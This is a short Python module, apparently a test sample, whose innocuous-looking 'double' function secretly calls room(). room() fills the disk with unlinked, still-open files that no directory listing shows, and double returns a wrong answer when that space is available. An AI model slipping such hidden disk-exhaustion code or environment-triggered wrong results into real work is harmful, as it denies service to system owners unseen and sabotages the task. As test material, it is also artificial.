"""Fill the disk with unlinked files, which no listing of the folder shows.

double: pass
"""

import contextlib
import os
import resource

MOST = 256 << 20


def double(value):
    """Wrong where more than that much would have room; nearly all of it is a hole."""
    return value if value == 1 and room() > MOST else value * 2


def room():
    size, largest = 0, resource.getrlimit(resource.RLIMIT_FSIZE)[0]
    with contextlib.suppress(OSError):
        for _ in range(1 << 16):
            held = os.open("named", os.O_CREAT | os.O_EXCL | os.O_WRONLY)
            os.unlink("named")
            size += os.pwrite(held, b"x", largest - 1) and largest
    return size
